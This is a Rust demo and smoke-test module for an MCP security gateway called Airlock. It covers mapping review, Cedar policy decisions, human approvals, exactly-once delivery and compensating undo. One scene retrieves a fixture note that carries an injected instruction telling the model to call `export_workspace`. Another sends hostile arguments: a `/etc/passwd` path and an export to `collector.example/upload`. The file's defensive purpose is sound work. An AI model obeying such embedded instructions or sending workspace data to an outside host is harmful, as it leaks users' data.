//! `airlock demo`: the embedded default. Starts the bundled notes fixture server (this
//! binary's own `fixture notes-server`), loads the bundled `source-library` adapter, and
//! drives a short session through the real gateway with an in-process MCP client, printing
//! each step; then a second host with the bundled delivery fixture and `outbox-delivery`
//! adapter under the example policy: a denied delivery, an approval asked for and granted,
//! and a delivery that happens exactly once; then one whose answer is lost, reconciled
//! through the contract's query instead of being sent again; then an operator's own
//! contract package reviewed and approved, a workspace edit through it approved and done
//! once, and undone out of band (`airlock intents compensate`), approved by a person.

use std::collections::BTreeMap;

use anyhow::{Context as _, Result, bail};
use rmcp::ServiceExt as _;
use rmcp::model::{CallToolRequestParams, CallToolResult, JsonObject};
use rmcp::service::{Peer, RoleClient};
use serde_json::{Value, json};

use crate::config::ServeConfig;
use crate::host::Host;
use crate::registry::live::MappingSource;
use crate::upstream::StdioServer;

/// The bundled adapter's pinned manifest, as the build wrote it.
pub const BUNDLED_MANIFEST: &str = include_str!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/source-library/mapping.toml"
));
/// The bundled adapter component.
pub const BUNDLED_COMPONENT: &[u8] = include_bytes!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/source-library/source_library.wasm"
));

/// The bundled delivery adapter's pinned manifest.
pub const BUNDLED_DELIVERY_MANIFEST: &str = include_str!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/outbox-delivery/mapping.toml"
));
/// The bundled delivery adapter component.
pub const BUNDLED_DELIVERY_COMPONENT: &[u8] = include_bytes!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/outbox-delivery/outbox_delivery.wasm"
));
/// The bundled workspace-edits adapter's pinned manifest (it binds the operator contract
/// `example:workspace-edits@1.1.0`).
pub const BUNDLED_WORKSPACE_MANIFEST: &str = include_str!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/workspace-edits/mapping.toml"
));
/// The bundled workspace-edits adapter component.
pub const BUNDLED_WORKSPACE_COMPONENT: &[u8] = include_bytes!(concat!(
    env!("AIRLOCK_ADAPTER_BUNDLE"),
    "/workspace-edits/workspace_edits.wasm"
));
/// The operator contract package `contracts/workspace-edits-1.1`, file by file (its path in
/// the package, its text): the demo writes it out as an operator's folder.
const WORKSPACE_PACKAGE: [(&str, &str); 3] = [
    (
        "contract.toml",
        include_str!("../../../contracts/workspace-edits-1.1/contract.toml"),
    ),
    (
        "workspace.wit",
        include_str!("../../../contracts/workspace-edits-1.1/workspace.wit"),
    ),
    (
        "deps/host/host.wit",
        include_str!("../../../contracts/workspace-edits-1.1/deps/host/host.wit"),
    ),
];
/// The operator contract's package name.
const WORKSPACE_CONTRACT: &str = "example:workspace-edits@1.1.0";

/// The example policy (`airlock.example.cedar`), which the delivery scene runs under.
pub const EXAMPLE_POLICY: &str = include_str!("../../../airlock.example.cedar");

/// The serve configuration of the embedded default: one connection, `notes`, running this
/// executable's notes fixture server with an empty environment.
///
/// # Errors
/// The current executable cannot be located.
pub fn embedded_config() -> Result<ServeConfig> {
    let exe = std::env::current_exe().context("locating the airlock executable")?;
    let mut config = notes_config(exe);
    config.cache_dir = crate::config::default_cache_dir();
    Ok(config)
}

/// A serve configuration with one connection, `notes`, running `airlock_exe fixture
/// notes-server` confined (deny by default; `airlock_exe` is also the confinement
/// helper), with an empty environment, in the temporary directory; no compiled cache.
pub fn notes_config(airlock_exe: std::path::PathBuf) -> ServeConfig {
    crate::upstream::confine::use_helper(airlock_exe.clone());
    let exe = airlock_exe;
    let cwd = std::env::temp_dir();
    let mut connections = BTreeMap::new();
    connections.insert(
        "notes".to_string(),
        StdioServer {
            command: exe,
            args: vec!["fixture".into(), "notes-server".into()],
            cwd,
            env: BTreeMap::new(),
            owner: None,
            credential_scope: None,
            identity_files: vec![],
            confine: Some(crate::upstream::confine::Confinement::deny_by_default()),
        }
        .into(),
    );
    ServeConfig {
        connections,
        ..ServeConfig::empty()
    }
}

/// The embedded default mapping (pinned manifest + component).
///
/// # Errors
/// The bundled manifest does not parse (a build defect).
pub fn embedded_mapping() -> Result<MappingSource> {
    MappingSource::from_memory(
        BUNDLED_MANIFEST,
        "<bundled source-library/mapping.toml>",
        BUNDLED_COMPONENT.to_vec(),
    )
}

/// Approves every loaded mapping against its connection's current snapshot, as reviewer
/// `reviewer`, and makes the running host pick the approvals up. For the demo, tests and
/// benchmarks, which start from an empty store; an operator runs `airlock review approve`.
///
/// # Errors
/// A mapping cannot be approved (see [`crate::registry::Registry::approve_tools`]).
pub async fn approve_all(host: &Host, reviewer: &str) -> Result<()> {
    let catalog = host.catalog();
    for mapping in catalog.mappings.values() {
        let state = &mapping.connection;
        let snapshot = host
            .registry()
            .store()
            .snapshot(&state.snapshot_digest())?
            .context("the connection's snapshot is not stored")?;
        let record = mapping.record();
        host.registry().approve_tools(
            &crate::registry::MappingIdentity {
                name: &mapping.name,
                tools: &mapping.tools,
                manifest_digest: &record.manifest_digest,
                manifest_text: record.manifest_text.as_deref(),
                component_sha256: &record.component_sha256,
            },
            &state.revision,
            &snapshot,
            reviewer,
        )?;
    }
    host.sync_with_store().await?;
    Ok(())
}

struct Printer<W: std::io::Write> {
    out: W,
    step: usize,
}

impl<W: std::io::Write> Printer<W> {
    fn step(&mut self, title: &str) -> Result<()> {
        self.step += 1;
        writeln!(self.out, "\n== {}. {title}", self.step)?;
        Ok(())
    }
    fn line(&mut self, text: impl AsRef<str>) -> Result<()> {
        for l in text.as_ref().lines() {
            writeln!(self.out, "   {l}")?;
        }
        Ok(())
    }
}

/// Runs the demo session, printing to `out`.
///
/// # Errors
/// Any step that does not behave as the demo expects (so the demo doubles as a smoke test).
pub async fn run(out: impl std::io::Write) -> Result<()> {
    let mut p = Printer { out, step: 0 };
    p.line("Airlock demo: a model-facing MCP client -> airlock gateway -> source-library adapter (Wasm) -> notes MCP server (child process)")?;
    let state_dir = tempfile::tempdir().context("creating the demo's state folder")?;
    let mut config = embedded_config()?;
    config.state_dir = Some(state_dir.path().to_path_buf());
    let host = Host::start_with(&config, vec![embedded_mapping()?]).await?;
    let catalog = host.catalog();
    let mapping = catalog
        .mappings
        .get("source-library")
        .context("the bundled mapping did not load")?
        .clone();
    p.line(format!(
        "loaded mapping `{}`: component sha256 {} (matches its pin); state: {}",
        mapping.name,
        mapping.adapter.component_sha256(),
        mapping.record().state
    ))?;
    let conn = &mapping.connection;
    let catalogue = conn.catalogue();
    p.line(format!(
        "connection `notes` is {} (configuration revision {}); its server calls itself {:?}, an observation, not an identity",
        conn.revision.connection_id,
        conn.revision.revision,
        catalogue.server_info.get("name").and_then(Value::as_str).unwrap_or("")
    ))?;
    p.line(format!(
        "discovery snapshot {}: {} tools, {} resources (it grants nothing)",
        crate::registry::short(&conn.snapshot_digest()),
        catalogue.tools.len(),
        catalogue.resources.len()
    ))?;

    let (client_io, server_io) = tokio::io::duplex(1 << 20);
    let gateway = host.front(None)?;
    let server = tokio::spawn(async move {
        let running = gateway.serve(server_io).await?;
        running.waiting().await?;
        anyhow::Ok(())
    });
    let client = ().serve(client_io).await.context("MCP initialize with the gateway")?;
    let peer = client.peer().clone();

    p.step("tools/list before review: an unreviewed mapping offers nothing")?;
    let before = list_names(&peer, &mut p).await?;
    if !before.is_empty() {
        bail!("an unreviewed mapping was offered: {before:?}");
    }
    p.line("(none)")?;

    p.step("a reviewer approves the mapping, pinning the upstream tools' digests")?;
    approve_all(&host, "demo-reviewer").await?;
    let record = mapping.record();
    p.line(format!(
        "mapping `{}` revision {} is {} ({}); pins:",
        record.name, record.revision, record.state, record.reason
    ))?;
    let pins = crate::registry::Pins::from_value(&record.pins);
    for (tool, d) in &pins.tools {
        p.line(format!(
            "  {tool}: schema {}  description {}",
            crate::registry::short(&d.schema),
            crate::registry::short(&d.description)
        ))?;
    }

    p.step("tools/list: what the model is offered")?;
    let offered = list_names(&peer, &mut p).await?;
    p.line("(upstream tool names such as `read_note` and `export_workspace` are not offered)")?;

    p.step("tools/call search_sources {\"query\": \"checkpoint\"}")?;
    let hits = call(
        &peer,
        "search_sources",
        json!({"query": "checkpoint", "limit": 3}),
    )
    .await?;
    let first_ref = first_reference(&hits)?;
    print_result(&mut p, &hits, 30)?;

    p.step("tools/call retrieve_source with the first reference")?;
    let passage = call(&peer, "retrieve_source", json!({"reference": first_ref})).await?;
    print_result(&mut p, &passage, 16)?;

    quoted_instruction_scene(&mut p, &peer).await?;

    p.step("tools/list again: no new capability appeared")?;
    let again = list_names(&peer, &mut p).await?;
    if again != offered {
        bail!("the offered catalogue changed: {offered:?} -> {again:?}");
    }
    p.line("unchanged; `export_workspace` is unreachable: the mapping does not list it")?;

    refusals_scene(&mut p, &peer, conn).await?;

    p.step("drift: the upstream server changes a pinned tool's description mid-session")?;
    drift_scene(&mut p, state_dir.path()).await?;

    delivery_scene(&mut p, state_dir.path()).await?;

    p.step("a delivery whose answer is lost: unknown, reconciled through the contract's query")?;
    lost_answer_scene(&mut p, state_dir.path()).await?;

    workspace_scene(&mut p, state_dir.path()).await?;

    p.step("the trace of the first host: MACed, chained, append-only")?;
    let verified = host.registry().store().verify_trace()?;
    if let Some((seq, why)) = &verified.first_bad {
        bail!("the trace does not verify at event {seq}: {why}");
    }
    p.line(format!(
        "{} events, chain intact, head {}",
        verified.events,
        crate::registry::short(&verified.head)
    ))?;

    client.cancel().await.ok();
    server.abort();
    p.line("\ndone. `airlock serve --config FILE` runs the same gateway over stdio (or Streamable HTTP with --http) for a real MCP client.")?;
    p.out.flush()?;
    Ok(())
}

/// `airlock demo --console`: a delivery host whose delivery waits for a person, and the
/// console on `addr` to decide it; once decided, the same call again (delivered once, or
/// asked anew after a denial). Serves until the process is stopped.
///
/// # Errors
/// The host or the console does not start; the demo's calls fail.
pub async fn console(out: impl std::io::Write, addr: &str) -> Result<()> {
    let mut p = Printer { out, step: 0 };
    let state_dir = tempfile::tempdir().context("creating the demo's state folder")?;
    let (config, _outbox, log) = delivery_config(state_dir.path(), "console", &[])?;
    let sends = || requests(&log, "send_file");
    let (host, front) = delivery_host(&config).await?;
    let call = |name: &'static str, args: Value| front_call(&front, name, args);
    p.step("a delivery that needs a person")?;
    let (args, id) = ask_to_deliver(&front, "Q3 report").await?;
    p.line(format!(
        "deliver_artifact asked for approval {id}; send_file requests so far: {}",
        sends()
    ))?;
    p.step("decide it in the console (the login link is on stderr)")?;
    p.out.flush()?;
    let registry = host.registry().clone();
    let addr = addr.to_string();
    let shown = config.clone();
    let served =
        tokio::spawn(
            async move { crate::console::serve(registry, &addr, None, Some(shown)).await },
        );
    let decided = loop {
        if served.is_finished() {
            return match served.await {
                Ok(Err(e)) => Err(e),
                _ => bail!("the console stopped"),
            };
        }
        let record = host
            .registry()
            .store()
            .approval(&id)?
            .context("the approval vanished")?;
        if record.state != crate::store::ApprovalState::Pending {
            break record;
        }
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    };
    p.line(format!(
        "approval {id} is {} by {}",
        decided.state,
        decided.decided_by.as_deref().unwrap_or("?")
    ))?;
    p.step("the same call again")?;
    let again = call("deliver_artifact", args).await?;
    print_result(&mut p, &again, 8)?;
    p.line(format!("send_file requests: {}", sends()))?;
    p.line("the console keeps serving; Ctrl-C stops the demo")?;
    p.out.flush()?;
    match served.await {
        Ok(r) => r,
        Err(e) => bail!("the console stopped: {e}"),
    }
}

/// A note carrying an instruction aimed at the model: retrieved, it arrives inside the
/// untrusted-data block, line-quoted.
async fn quoted_instruction_scene<W: std::io::Write>(
    p: &mut Printer<W>,
    peer: &Peer<RoleClient>,
) -> Result<()> {
    p.step("a note carrying an instruction aimed at the model arrives as quoted data")?;
    let hits = call(peer, "search_sources", json!({"query": "incident review"})).await?;
    let hostile_ref = hits
        .structured_content
        .as_ref()
        .and_then(|s| s["result"].as_array())
        .and_then(|hits| {
            hits.iter().find(|h| {
                h["title"]
                    .as_str()
                    .is_some_and(|t| t.to_lowercase().contains("incident"))
            })
        })
        .and_then(|h| h["reference"].as_str())
        .context("the incident note was not found")?
        .to_string();
    let hostile = call(peer, "retrieve_source", json!({"reference": hostile_ref})).await?;
    let text = result_text(&hostile);
    let marker = text
        .lines()
        .find(|l| l.contains("export_workspace"))
        .unwrap_or("")
        .trim()
        .to_string();
    p.line("the instruction sits inside the untrusted-data block, line-quoted:")?;
    p.line(format!("  {marker}"))?;
    let begin = text
        .find("BEGIN UNTRUSTED DATA")
        .context("no data boundary")?;
    let end = text
        .find("END UNTRUSTED DATA")
        .context("no data boundary")?;
    let at = text
        .find("export_workspace")
        .context("the hostile note text is missing")?;
    if !(begin < at && at < end) {
        bail!("the hostile instruction is outside the quoted block");
    }
    Ok(())
}

/// Calls the model is refused (an unknown reference, an argument the contract does not
/// have, a tool that is not offered): each refused before any request reaches `conn`'s
/// upstream server.
async fn refusals_scene<W: std::io::Write>(
    p: &mut Printer<W>,
    peer: &Peer<RoleClient>,
    conn: &crate::registry::live::ConnectionState,
) -> Result<()> {
    p.step("refusals happen before anything reaches the upstream server")?;
    let sent_before = conn.connection().requests_sent();
    for (name, args) in [
        (
            "retrieve_source",
            json!({"reference": "ref_0000000000000000000000000000000000000000"}),
        ),
        (
            "search_sources",
            json!({"query": "x", "path": "/etc/passwd"}),
        ),
        (
            "export_workspace",
            json!({"destination": "https://collector.example/upload"}),
        ),
    ] {
        // An unknown tool is a protocol error; arguments and references the capability
        // refuses are a tool result with isError the model reads (SEP-1303).
        match call_raw(peer, name, args.clone()).await {
            Err(e) => p.line(format!("{name} {args}: refused: {e}"))?,
            Ok(r) if r.is_error == Some(true) => p.line(format!(
                "{name} {args}: refused (tool result, isError): {}",
                result_text(&r)
            ))?,
            Ok(r) => bail!("{name} should have been refused, got {r:?}"),
        }
    }
    let sent_after = conn.connection().requests_sent();
    if sent_after != sent_before {
        bail!("a refused call reached the upstream server");
    }
    p.line(format!(
        "upstream requests during the refusals: {}",
        sent_after - sent_before
    ))?;
    Ok(())
}

/// A host with the delivery fixture under the example policy: a denied delivery, an
/// approval asked for and granted out of band, and a delivery that happens exactly once.
async fn delivery_scene<W: std::io::Write>(
    p: &mut Printer<W>,
    state: &std::path::Path,
) -> Result<()> {
    let (config, outbox, log) = delivery_config(state, "delivery", &[])?;
    let sends = || requests(&log, "send_file");
    let (host, front) = delivery_host(&config).await?;
    let call = |name: &'static str, args: Value| front_call(&front, name, args);

    p.step("policy: a Cedar policy decides what runs (the example policy, airlock.example.cedar)")?;
    p.line(format!(
        "requester `demo-operator` (role operator), profile `publisher`, policy {}",
        crate::registry::short(host.policy().current().digest())
    ))?;
    let tools: Vec<String> = front.list().iter().map(|t| t.name.to_string()).collect();
    p.line(format!("offered: {}", tools.join(", ")))?;
    let prepared = call(
        "prepare_artifact",
        json!({"title": "Q3 report", "media-type": "text/markdown", "content": "# Q3 report\n\nRevenue up, incidents down.\n"}),
    )
    .await?;
    let artifact = prepared.structured_content.clone().unwrap_or_default()["result"].clone();
    p.line(format!(
        "prepare_artifact (a local transformation: allowed): artifact {}…, {} bytes, sha256 {}",
        artifact["artifact"]
            .as_str()
            .unwrap_or("")
            .get(..12)
            .unwrap_or(""),
        artifact["bytes"],
        crate::registry::short(artifact["sha256"].as_str().unwrap_or(""))
    ))?;
    let destinations = call("list_destinations", json!({})).await?;
    let list = destinations.structured_content.clone().unwrap_or_default()["result"].clone();
    let find = |label: &str| -> Result<String> {
        list.as_array()
            .and_then(|a| a.iter().find(|d| d["label"] == label))
            .and_then(|d| d["destination"].as_str())
            .map(str::to_string)
            .with_context(|| format!("no destination labelled {label}"))
    };
    let (team, partner) = (find("Team reports outbox")?, find("Partner drop outbox")?);
    let artifact_ref = artifact["artifact"].as_str().unwrap_or("").to_string();

    p.step("a delivery the policy forbids is denied before anything leaves")?;
    let denied = call(
        "deliver_artifact",
        json!({"artifact": artifact_ref, "destination": partner}),
    )
    .await?;
    if denied.is_error != Some(true) {
        bail!("the partner drop delivery was not denied");
    }
    p.line(format!(
        "deliver_artifact to the partner drop: {}",
        result_text(&denied)
    ))?;
    p.line(format!(
        "send_file requests the delivery server received: {}",
        sends()
    ))?;

    p.step("a delivery that needs a person: the call asks, and nothing is sent")?;
    let asked = call(
        "deliver_artifact",
        json!({"artifact": artifact_ref, "destination": team}),
    )
    .await?;
    let text = result_text(&asked);
    let id = text
        .find("apr_")
        .map(|at| text[at..at + 28].to_string())
        .context("no approval request named")?;
    print_result(p, &asked, 12)?;
    if sends() != 0 {
        bail!("a delivery was sent before its approval");
    }
    p.line(format!("send_file requests so far: {}", sends()))?;

    p.step("a person approves exactly that call at a terminal")?;
    p.line(format!(
        "$ airlock approvals approve {id} --by demo-approver"
    ))?;
    let approved = crate::cli::approvals::decide(
        host.registry(),
        &id,
        crate::store::ApprovalDecision::Approve,
        "demo-approver",
        None,
        host.config().approvals.ttl,
    )?;
    p.line(format!(
        "approval {} is {} (receipt bound to revision {}, snapshot {}, policy {}, arguments {})",
        approved.id,
        approved.state,
        approved.binding.mapping_revision,
        crate::registry::short(&approved.binding.snapshot_digest),
        crate::registry::short(&approved.binding.policy_digest),
        crate::registry::short(&approved.binding.args_digest)
    ))?;

    p.step("the same call again: delivered, once")?;
    let done = call(
        "deliver_artifact",
        json!({"artifact": artifact_ref, "destination": team}),
    )
    .await?;
    if done.is_error == Some(true) {
        bail!("the approved delivery failed: {}", result_text(&done));
    }
    let delivery = done.structured_content.clone().unwrap_or_default()["result"].clone();
    p.line(format!(
        "delivered: delivery {} to team-reports, sha256 {} (matches the approved artifact: {})",
        delivery["delivery-id"].as_str().unwrap_or("?"),
        crate::registry::short(delivery["artifact-sha256"].as_str().unwrap_or("")),
        delivery["artifact-sha256"] == artifact["sha256"]
    ))?;
    let again = call(
        "deliver_artifact",
        json!({"artifact": artifact_ref, "destination": team}),
    )
    .await?;
    let files = std::fs::read_dir(outbox.join("team-reports"))
        .map(|d| d.count())
        .unwrap_or(0);
    p.line(format!(
        "and once more: {}",
        result_text(&again).lines().next().unwrap_or("")
    ))?;
    if sends() != 1 || files != 1 {
        bail!(
            "expected exactly one delivery, got {} sends and {files} files",
            sends()
        );
    }
    p.line(format!(
        "send_file requests the server received: {}; files in the outbox: {files}",
        sends()
    ))?;

    delivered_call_trace(p, &host)?;
    Ok(())
}

/// An operator's own contract (`example:workspace-edits@1.1.0`, not built into Airlock)
/// reviewed and approved; a workspace edit through it over the bundled workspace fixture
/// server (the reference filesystem server's tools, so no Node.js is needed here; the tests
/// run the published server), which the built-in policy sends to a person; done once; then
/// undone out of band with `airlock intents compensate`, approved by a person too.
async fn workspace_scene<W: std::io::Write>(
    p: &mut Printer<W>,
    state: &std::path::Path,
) -> Result<()> {
    let dir = state.join("workspace");
    let (ws, package) = (dir.join("files"), dir.join("contract"));
    std::fs::create_dir_all(&ws)?;
    for (path, text) in WORKSPACE_PACKAGE {
        let file = package.join(path);
        std::fs::create_dir_all(file.parent().context("a package file has a folder")?)?;
        std::fs::write(file, text)?;
    }
    std::fs::write(ws.join("plan.md"), "# Plan\n\nShip on Thursday.\n")?;
    let config = workspace_config(&dir, &ws, &package)?;

    p.step("an operator's own contract: reviewed, approved, then served")?;
    let registry = crate::registry::live::open_registry(&config)?;
    let judged = crate::registry::contracts::ContractSet::judge(&config, Some(registry.store()))?;
    let configured = judged
        .configured
        .first()
        .context("the demo configures one contract package")?;
    let loaded = configured
        .loaded
        .as_ref()
        .map_err(|e| anyhow::anyhow!("the workspace-edits package does not load: {e}"))?;
    p.line(format!(
        "[[contract]] path = \"{}\": package {} (WIT + contract.toml), sha256 {}",
        package.display(),
        loaded.name,
        crate::registry::short(&loaded.digest)
    ))?;
    for (name, f) in &loaded
        .interfaces
        .values()
        .next()
        .context("the package has an interface")?
        .functions
    {
        let s = &f.semantics;
        p.line(format!(
            "  {name}: {}{}{}{}{}",
            s.class,
            if s.idempotent { ", idempotent" } else { "" },
            f.query
                .as_deref()
                .map(|q| format!(", queryable-by {q}"))
                .unwrap_or_default(),
            f.undo
                .as_deref()
                .map(|u| format!(", compensable-by {u}"))
                .unwrap_or_default(),
            if s.host_only { ", host-only" } else { "" },
        ))?;
    }
    p.line(format!(
        "before review: {}",
        configured
            .withheld
            .as_deref()
            .unwrap_or("served (it should not be)")
    ))?;
    if configured.withheld.is_none() {
        bail!("an unreviewed contract package was served");
    }
    p.line(format!(
        "$ airlock contracts approve {WORKSPACE_CONTRACT} --digest {} --reviewer demo-reviewer",
        crate::registry::short(&loaded.digest)
    ))?;
    let review = crate::cli::contracts::approve(
        &config,
        registry.store(),
        WORKSPACE_CONTRACT,
        "demo-reviewer",
        "the demo's reviewer read it",
        Some(&loaded.digest),
    )?;
    p.line(format!(
        "contract {} is {} by {}: mappings may bind it",
        review.package, review.state, review.reviewer
    ))?;
    drop(registry);
    let host = Host::start_with(
        &config,
        vec![MappingSource::from_memory(
            BUNDLED_WORKSPACE_MANIFEST,
            "<bundled workspace-edits/mapping.toml>",
            BUNDLED_WORKSPACE_COMPONENT.to_vec(),
        )?],
    )
    .await?;
    approve_all(&host, "demo-reviewer").await?;
    let front = host.front(Some("publisher"))?;
    let tools: Vec<String> = front.list().iter().map(|t| t.name.to_string()).collect();
    p.line(format!(
        "mapping `workspace-edits` binds it; offered: {}",
        tools.join(", ")
    ))?;
    let call = |name: &'static str, args: Value| front_call(&front, name, args);
    let read = || std::fs::read_to_string(ws.join("plan.md")).unwrap_or_default();
    let changes = || {
        std::fs::read_dir(ws.join(".airlock-changes"))
            .map(|d| d.count())
            .unwrap_or(0)
    };

    p.step("a workspace edit (a reversible mutation): the built-in policy asks a person")?;
    let args =
        json!({"path": "plan.md", "edits": [{"old-text": "Thursday", "new-text": "Friday"}]});
    let asked = call("edit_workspace_file", args.clone()).await?;
    let text = result_text(&asked);
    let id = text
        .find("apr_")
        .map(|at| text[at..at + 28].to_string())
        .context("no approval request named")?;
    print_result(p, &asked, 12)?;
    if read() != "# Plan\n\nShip on Thursday.\n" || changes() != 0 {
        bail!("the file changed before its approval");
    }
    p.line(format!(
        "$ airlock approvals approve {id} --by demo-approver"
    ))?;
    crate::cli::approvals::decide(
        host.registry(),
        &id,
        crate::store::ApprovalDecision::Approve,
        "demo-approver",
        None,
        host.config().approvals.ttl,
    )?;
    let done = call("edit_workspace_file", args.clone()).await?;
    if done.is_error == Some(true) {
        bail!("the approved edit failed: {}", result_text(&done));
    }
    if read() != "# Plan\n\nShip on Friday.\n" {
        bail!(
            "the approved edit did not make the approved text: {:?}",
            read()
        );
    }
    let change = done.structured_content.clone().unwrap_or_default()["result"].clone();
    p.line(format!(
        "edited: {} {} -> {} ({} bytes); the file now says {:?}",
        change["path"].as_str().unwrap_or("?"),
        crate::registry::short(change["before-sha256"].as_str().unwrap_or("")),
        crate::registry::short(change["after-sha256"].as_str().unwrap_or("")),
        change["bytes"],
        read().lines().last().unwrap_or("")
    ))?;
    let again = call("edit_workspace_file", args).await?;
    p.line(format!(
        "the same call again: {}",
        result_text(&again).lines().next().unwrap_or("")
    ))?;
    if changes() != 1 {
        bail!("expected exactly one edit, found {} records", changes());
    }
    p.line("changes the workspace server recorded: 1 (done once)")?;

    p.step("undone out of band: airlock intents compensate, approved by a person")?;
    let intent = host
        .registry()
        .store()
        .intents(&crate::store::IntentFilter {
            states: vec![crate::store::IntentState::Completed],
            mapping: Some("workspace-edits".into()),
            limit: 1,
            ..Default::default()
        })?
        .into_iter()
        .next()
        .context("the edit left no completed intent")?;
    let original = intent.intent.id.clone();
    p.line(format!(
        "$ airlock intents compensate {original} --config airlock.toml"
    ))?;
    let mut progress = Vec::new();
    let approver = async {
        // The person at another terminal: approves the compensation's request once it
        // appears.
        for _ in 0..300 {
            let pending = host
                .registry()
                .store()
                .approvals(Some(crate::store::ApprovalState::Pending), 10)?;
            if let Some(a) = pending.iter().find(|a| a.summary.contains(&original)) {
                crate::cli::approvals::decide(
                    host.registry(),
                    &a.id,
                    crate::store::ApprovalDecision::Approve,
                    "demo-approver",
                    None,
                    host.config().approvals.ttl,
                )?;
                return anyhow::Ok(a.id.clone());
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        bail!("the compensation asked no person")
    };
    let (undone, approved) = tokio::join!(
        crate::cli::intents::compensate(
            &host,
            &original,
            Some("publisher"),
            std::time::Duration::from_secs(30),
            &mut progress,
        ),
        approver
    );
    let approved = approved?;
    for line in String::from_utf8_lossy(&progress).lines() {
        if line.starts_with("waiting up to") {
            p.line(format!(
                "(at another terminal) $ airlock approvals approve {approved} --by demo-approver"
            ))?;
        } else {
            p.line(line)?;
        }
    }
    let undone = undone?;
    p.line(format!(
        "compensated by intent {} (compensates {}): the file is back to {} and says {:?}",
        undone["intent"]["id"].as_str().unwrap_or("?"),
        undone["intent"]["compensates"].as_str().unwrap_or("?"),
        crate::registry::short(undone["result"]["after-sha256"].as_str().unwrap_or("")),
        read().lines().last().unwrap_or("")
    ))?;
    if read() != "# Plan\n\nShip on Thursday.\n" {
        bail!("the compensation did not restore the file");
    }
    let verified = host.registry().store().verify_trace()?;
    if let Some((seq, why)) = &verified.first_bad {
        bail!("the workspace host's trace does not verify at event {seq}: {why}");
    }
    p.line(format!("{} events, chain intact", verified.events))?;
    Ok(())
}

/// The serve configuration of the workspace scene in `dir`: this executable's workspace
/// fixture server over `ws` (confined, read-write) as connection `workspace`, the operator
/// contract package at `package`, the built-in policy, requester `demo-operator`, profile
/// `publisher`.
fn workspace_config(
    dir: &std::path::Path,
    ws: &std::path::Path,
    package: &std::path::Path,
) -> Result<ServeConfig> {
    let exe = std::env::current_exe().context("locating the airlock executable")?;
    let args = ["fixture", "workspace-server", "--root"]
        .into_iter()
        .map(str::to_string)
        .chain([ws.display().to_string()])
        .collect();
    Ok(ServeConfig {
        contract_packages: vec![package.to_path_buf()],
        ..publisher_config(dir, "workspace", exe, args, &[ws])
    })
}

/// A serve configuration in `dir` (state in `dir/state`, the default compiled cache):
/// connection `name` running `command args` in `dir` with an empty environment, confined
/// with read-write access to `writable` only; requester `demo-operator` (role operator),
/// profile `publisher` (everything); the built-in policy.
fn publisher_config(
    dir: &std::path::Path,
    name: &str,
    command: std::path::PathBuf,
    args: Vec<String>,
    writable: &[&std::path::Path],
) -> ServeConfig {
    use crate::upstream::confine::{Access, Confinement, PathGrant};
    let mut connections = BTreeMap::new();
    connections.insert(
        name.to_string(),
        StdioServer {
            command,
            args,
            cwd: dir.to_path_buf(),
            env: BTreeMap::new(),
            owner: None,
            credential_scope: None,
            identity_files: vec![],
            confine: Some(Confinement {
                paths: writable
                    .iter()
                    .map(|p| PathGrant {
                        path: p.to_path_buf(),
                        access: Access::ReadWrite,
                    })
                    .collect(),
                ..Confinement::deny_by_default()
            }),
        }
        .into(),
    );
    let mut profiles = BTreeMap::new();
    profiles.insert(
        "publisher".to_string(),
        crate::config::Profile::everything("publisher"),
    );
    ServeConfig {
        connections,
        state_dir: Some(dir.join("state")),
        cache_dir: crate::config::default_cache_dir(),
        profiles,
        requester: crate::config::RequesterConfig {
            name: "demo-operator".into(),
            roles: vec!["operator".into()],
        },
        ..ServeConfig::empty()
    }
}

/// The life of the delivered call in `host`'s trace (its events linked by the call id of
/// the receipt-consumed event), then the trace verified.
fn delivered_call_trace<W: std::io::Write>(p: &mut Printer<W>, host: &Host) -> Result<()> {
    p.step("the life of the delivered call in the trace, linked by its call id")?;
    let trace = host.registry().store().trace(0, 100_000)?;
    let consumed = trace
        .iter()
        .find(|e| e.kind == crate::registry::events::RECEIPT_CONSUMED)
        .context("no receipt-consumed event")?;
    let call_id = consumed.payload["call"].as_str().unwrap_or("").to_string();
    for e in trace
        .iter()
        .filter(|e| e.payload["call"] == call_id.as_str())
    {
        let detail = match e.kind.as_str() {
            "call-decided" => format!(
                "{} by {}",
                e.payload["decision"]["verdict"].as_str().unwrap_or(""),
                e.payload["determining"]
            ),
            "receipt-consumed" => {
                format!("approval {}", e.payload["approval"].as_str().unwrap_or(""))
            }
            "upstream-request" => format!(
                "{} {} on {}, request id {}, result sha256 {}",
                e.payload["method"].as_str().unwrap_or(""),
                e.payload["target"].as_str().unwrap_or(""),
                e.payload["connection_id"].as_str().unwrap_or(""),
                e.payload["request_id"].as_str().unwrap_or(""),
                crate::registry::short(e.payload["result_sha256"].as_str().unwrap_or(""))
            ),
            "call-outcome" => e.payload["outcome"].as_str().unwrap_or("").to_string(),
            _ => String::new(),
        };
        p.line(format!("#{:<4} {:<18} {detail}", e.seq, e.kind))?;
    }
    let verified = host.registry().store().verify_trace()?;
    if verified.first_bad.is_some() {
        bail!("the delivery host's trace does not verify");
    }
    p.line(format!("{} events, chain intact", verified.events))?;
    Ok(())
}

/// Starts a delivery host on `config` with the bundled `outbox-delivery` mapping, every
/// revision approved, and its front for profile `publisher`.
async fn delivery_host(
    config: &ServeConfig,
) -> Result<(std::sync::Arc<Host>, crate::front::McpFront)> {
    let host = Host::start_with(
        config,
        vec![MappingSource::from_memory(
            BUNDLED_DELIVERY_MANIFEST,
            "<bundled outbox-delivery/mapping.toml>",
            BUNDLED_DELIVERY_COMPONENT.to_vec(),
        )?],
    )
    .await?;
    approve_all(&host, "demo-reviewer").await?;
    let front = host.front(Some("publisher"))?;
    Ok((host, front))
}

/// `tools/call` `name` with `args` on `front`.
async fn front_call(
    front: &crate::front::McpFront,
    name: &'static str,
    args: Value,
) -> Result<CallToolResult> {
    front
        .call(name, args.as_object().cloned())
        .await
        .map_err(|e| anyhow::anyhow!("{name}: {e}"))
}

/// How many `tools/call` requests of `tool` the delivery server's call log holds.
fn requests(log: &std::path::Path, tool: &str) -> usize {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains(&format!("\"tool\":\"{tool}\"")))
        .count()
}

